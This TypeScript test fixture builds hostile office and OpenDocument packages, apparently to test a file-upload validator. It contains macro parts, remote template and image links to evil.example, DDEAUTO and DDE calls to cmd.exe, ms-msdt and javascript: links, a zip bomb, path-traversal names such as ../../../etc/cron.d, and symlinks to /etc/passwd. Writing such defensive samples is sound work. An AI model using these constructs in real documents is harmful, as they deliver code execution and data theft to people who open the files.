import { office, officeRelationship, openDocument, outward } from './office-bytes.js';
import { file, type TriedFile } from './tried-file.js';
import { zip } from './zip-bytes.js';

const program = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(100, 5)]);
const linked = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(100)]);
const part = (name: string, content: string | Buffer = '<a/>') => ({ parts: [{ name, content }] });
const field = (text: string) =>
  `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:instrText>${text.slice(0, 3)}</w:instrText></w:r><w:r><w:instrText>${text.slice(3)}</w:instrText></w:r></w:p></w:body></w:document>`;
const wide = Buffer.from(
  `\uFEFF<?xml version="1.0" encoding="UTF-16"?><Relationships>${outward('attachedTemplate', 'http://evil.example/a.dotm')}</Relationships>`,
  'utf16le',
);
const bomb = Buffer.alloc(130 * 1024 * 1024);

const hostileOffice: readonly TriedFile[] = [
  file('a text with macros', 'a.docx', office('docx', part('word/vbaProject.bin', linked))),
  file('a text whose macros have another name', 'a.docx', office('docx', part('word/settings.bin', linked))),
  file(
    'a text that is of the type with macros',
    'a.docx',
    office('docx', { mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
  ),
  file('a workbook with sheets of old macros', 'a.xlsx', office('xlsx', part('xl/macrosheets/sheet1.xml'))),
  file('a workbook with a control', 'a.xlsx', office('xlsx', part('xl/activeX/activeX1.xml'))),
  file('a text with a linked object', 'a.docx', office('docx', part('word/embeddings/oleObject1.bin', linked))),
  file('a text with a program', 'a.docx', office('docx', part('word/media/image1.png', program))),
  file('a text with a page', 'a.docx', office('docx', part('word/afchunk.html', '<script>alert(1)</script>'))),
  file(
    'a text with an archive',
    'a.docx',
    office('docx', part('word/media/image1.png', zip([{ name: 'a', content: 'a' }]))),
  ),
  file(
    'a presentation whose chart has macros',
    'a.pptx',
    office('pptx', part('ppt/embeddings/a.xlsx', office('xlsx', part('xl/vbaProject.bin', linked)))),
  ),
  file(
    'a text with a picture that runs',
    'a.docx',
    office('docx', part('word/media/a.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')),
  ),
  file(
    'a text with a template elsewhere',
    'a.docx',
    office('docx', { relations: outward('attachedTemplate', 'https://evil.example/a.dotm') }),
  ),
  file(
    'a text with a template elsewhere, written in numbers',
    'a.docx',
    office('docx', { relations: outward('attachedTemplate', '&#104;ttps://evil.example/a.dotm', '&#69;xternal') }),
  ),
  file(
    'a text with a template elsewhere, of which it does not say so',
    'a.docx',
    office('docx', {
      relations: `<Relationship Id="a" Type="${officeRelationship}/attachedTemplate" Target="https://evil.example/a.dotm"/>`,
    }),
  ),
  file(
    'a text with a template elsewhere, in wide letters',
    'a.docx',
    office('docx', part('word/_rels/settings.xml.rels', wide)),
  ),
  file(
    'a text with a picture of elsewhere',
    'a.docx',
    office('docx', { relations: outward('image', 'http://evil.example/pixel.png') }),
  ),
  file(
    'a text with an object of the network',
    'a.docx',
    office('docx', { relations: outward('oleObject', '\\\\evil.example\\a') }),
  ),
  file(
    'a text with a link that runs',
    'a.docx',
    office('docx', { relations: outward('hyperlink', 'javascript:alert(1)') }),
  ),
  file('a text with a link to a handler', 'a.docx', office('docx', { relations: outward('hyperlink', 'ms-msdt:/id') })),
  file(
    'a workbook bound to another',
    'a.xlsx',
    office('xlsx', { relations: outward('externalLinkPath', 'file:///c:/a.xlsx') }),
  ),
  file(
    'a text that calls another program',
    'a.docx',
    office('docx', { body: field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe') }),
  ),
  file(
    'a workbook that calls another program',
    'a.xlsx',
    office(
      'xlsx',
      part(
        'xl/externalLinks/externalLink1.xml',
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
      ),
    ),
  ),
  file(
    'a text with entities that grow',
    'a.docx',
    office('docx', { body: '<!DOCTYPE a [<!ENTITY b "c">]><w:document/>' }),
  ),
];

const hostileArchives: readonly TriedFile[] = [
  file('an archive that fills the memory', 'a.xlsx', office('xlsx', part('xl/worksheets/sheet1.xml', bomb))),
  file(
    'an archive that fills the memory and lies',
    'a.xlsx',
    office('xlsx', { parts: [{ name: 'xl/worksheets/sheet1.xml', content: bomb, declared: 10 }] }),
  ),
  file('an archive whose names climb', 'a.docx', office('docx', part('../../../etc/cron.d/a.xml'))),
  file('an archive whose names begin at the root', 'a.docx', office('docx', part('/etc/passwd.xml'))),
  file('an archive whose names climb on Windows', 'a.docx', office('docx', part('..\\..\\a.xml'))),
  file('an archive that names a part twice', 'a.docx', office('docx', part('word/document.xml', '<b/>'))),
  file(
    'an archive whose names differ inside',
    'a.docx',
    office('docx', { parts: [{ name: 'word/a.xml', localName: 'word/b.xml', content: '<a/>' }] }),
  ),
  file(
    'an archive with a link to a file of the machine',
    'a.docx',
    office('docx', { parts: [{ name: 'word/a.xml', content: '/etc/passwd', mode: 0xa1ff }] }),
  ),
  file(
    'an archive with a part that is encrypted',
    'a.docx',
    office('docx', { parts: [{ name: 'word/a.xml', content: '<a/>', encrypted: true }] }),
  ),
  file(
    'an archive with a part that its directory hides',
    'a.docx',
    office('docx', { oddities: { hidden: [{ name: 'word/vbaProject.bin', content: linked }] } }),
  ),
  file('an archive behind a program', 'a.docx', office('docx', { oddities: { before: program } })),
  file('an archive before a program', 'a.docx', office('docx', { oddities: { after: program } })),
  file(
    'an archive with a page for a comment',
    'a.docx',
    office('docx', { oddities: { comment: '<script>alert(1)</script>' } }),
  ),
  file('an archive of Java under the name of a text', 'a.docx', zip([{ name: 'META-INF/MANIFEST.MF', content: 'a' }])),
  file('an archive that is cut', 'a.xlsx', office('xlsx').subarray(0, 300)),
  file('a protected text of the former office', 'a.docx', linked),
];

const hostileOpen: readonly TriedFile[] = [
  file('an open text with macros', 'a.odt', openDocument('odt', part('Basic/Standard/Module1.xml'))),
  file('an open text with a script', 'a.odt', openDocument('odt', part('Scripts/python/a.py', 'import os'))),
  file(
    'an open text that acts on opening',
    'a.odt',
    openDocument('odt', {
      body: '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a"/>',
    }),
  ),
  file(
    'an open text with a link that runs',
    'a.odt',
    openDocument('odt', { body: '<text:a xlink:href="vnd.sun.star.script:a?language=Basic">a</text:a>' }),
  ),
  file(
    'an open text with a picture of elsewhere',
    'a.odt',
    openDocument('odt', { body: '<draw:image xlink:href="http://evil.example/a.png"/>' }),
  ),
  file(
    'an open text with a part of the network',
    'a.odt',
    openDocument('odt', { body: '<text:section-source xlink:href="file://evil.example/a.odt"/>' }),
  ),
  file(
    'an open text with a picture of elsewhere, by another prefix',
    'a.odt',
    openDocument('odt', {
      body: '<draw:image xmlns:é="http://www.w3.org/1999/xlink" é:href="http://evil.example/a.png"/>',
    }),
  ),
  file('an open text that is encrypted', 'a.odt', openDocument('odt', { manifest: '<manifest:encryption-data/>' })),
  file(
    'an open text of another type',
    'a.odt',
    openDocument('odt', { type: 'application/vnd.oasis.opendocument.text-master' }),
  ),
  file(
    'an open workbook that calls another program',
    'a.ods',
    openDocument('ods', { body: '<office:dde-source office:dde-application="cmd"/>' }),
  ),
  file('an open text with a program', 'a.odt', openDocument('odt', part('Pictures/1.png', program))),
];

export const hostilePackages: readonly TriedFile[] = [...hostileOffice, ...hostileArchives, ...hostileOpen];
